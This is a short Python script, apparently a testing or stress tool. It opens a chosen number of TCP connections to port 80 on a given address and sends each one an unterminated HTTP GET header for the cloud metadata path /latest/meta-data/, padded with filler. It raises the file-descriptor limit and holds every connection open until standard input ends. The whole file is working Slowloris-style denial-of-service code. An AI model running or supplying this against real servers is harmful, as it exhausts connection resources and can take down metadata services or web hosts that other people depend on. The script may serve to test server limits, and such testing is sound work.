"""Holds connections with heads that never end: ADDRESS COUNT BYTES. All are open until standard input ends."""
import resource
import socket
import sys
import time

address, count, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 64, max(count + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
head = b"GET /latest/meta-data/ HTTP/1.1\r\nX-Filler: "
held = []
for i in range(count):
    connection = socket.create_connection((address, 80), timeout=20)
    connection.sendall(head + b"f" * (size - len(head)))
    held.append(connection)
    time.sleep(0.001)  # so that the ring buffer is not what bounds it
print("held", flush=True)
sys.stdin.read()
